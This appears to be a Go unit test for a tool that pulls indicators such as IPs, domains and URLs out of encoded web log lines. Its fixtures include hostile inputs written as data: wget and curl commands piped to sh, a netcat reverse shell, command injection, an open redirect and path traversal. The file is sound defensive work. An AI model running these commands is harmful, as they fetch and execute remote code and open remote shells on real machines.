package extract_test

import "testing"

func TestEncodedCommandLinesAreReadDecodedOnce(t *testing.T) {
	const path = `url:http://45.142.212.100/b.sh`
	checkLive(t, "", map[string]string{
		`"GET /shell?cd+/tmp;rm+-rf+*;wget+45.142.212.100/jaws;sh+/tmp/jaws HTTP/1.1"`:                                            "file:/shell ipv4:45.142.212.100 url:http://45.142.212.100/jaws",
		`"GET /x?cmd=wget%20http%3A%2F%2F45.142.212.100%2Fb.sh HTTP/1.1"`:                                                         "argument:cmd file:/x ipv4:45.142.212.100 " + path,
		`9.8.7.61 - - [03/Mar/2026:12:11:09 +0000] "GET /x?cmd=wget%20http%3A%2F%2F45.142.212.100%2Fb.sh HTTP/1.1" 200 1 "-" "-"`: "argument:cmd file:/x ipv4:45.142.212.100 ipv4:9.8.7.61 " + path,
		`9.8.7.61 - - [03/Mar/2026:12:11:09 +0000] "GET /x?cmd=curl+evil-one.gq HTTP/1.1" 200 1 "-" "-"`:                          "argument:cmd domain:evil-one.gq file:/x ipv4:9.8.7.61",
		`vars[1][]=curl+45.142.212.100/x.sh|sh`:                                                                                   "ipv4:45.142.212.100 url:http://45.142.212.100/x.sh",
		`127.0.0.1;nc+185.100.87.41+4444+-e+/bin/sh`:                                                                              "ipv4:185.100.87.41",
		`cmd=ping%20-c%201%2045.142.212.100`:                                                                                      "ipv4:45.142.212.100",
		`redirect=https%3A%2F%2Fevil-one.top%2Flogin`:                                                                             "domain:evil-one.top url:https://evil-one.top/login",
		`The link /redirect?url=https%3A%2F%2Fevil-one.top%2Flogin`:                                                               "domain:evil-one.top file:/redirect url:https://evil-one.top/login",
		`wget+http%3A%2F%2Fevil-one.top%2Fx`:                                                                                      "domain:evil-one.top url:http://evil-one.top/x",
		`Decoded body: file=http%3A%2F%2F45.142.212.100%2Fa.exe&id=1`:                                                             "ipv4:45.142.212.100 url:http://45.142.212.100/a.exe",
		`http://evil-two.org/x?cmd=ping%20-c%201%2045.142.212.100`:                                                                "domain:evil-two.org ipv4:45.142.212.100 url:http://evil-two.org/x?cmd=ping%20-c%201%2045.142.212.100",
		`email=bob%40evil-one.com&x=1`:                                                                                            "email:bob@evil-one.com",
		`url=http%253A%252F%252F45.142.212.100%252F`:                                                                              "", // encoded twice
		`libfoo 5.4.120.33+deb10u1 and 1.2.3.4+build5, C++ and g++=x`:                                                             "",
		`9.8.7.61 - - [03/Mar/2026:12:11:09 +0000] "GET /s?q=node.js+vs+asp.net+evil.top HTTP/1.1" 200 1 "-" "-"`:                 "argument:q file:/s ipv4:9.8.7.61",
		`9.8.7.61 - - [03/Mar/2026:12:11:09 +0000] "GET /a.css?ver=6.4.2.1 HTTP/1.1" 200 1 "-" "-"`:                               "argument:ver file:/a.css ipv4:9.8.7.61",
		`https://shop-two.com/search?q=evil.top+malware`:                                                                          "domain:shop-two.com url:https://shop-two.com/search?q=evil.top+malware",
		`file=..%2f..%2fetc%2fhosts.txt`:                                                                                          "",
	})
}
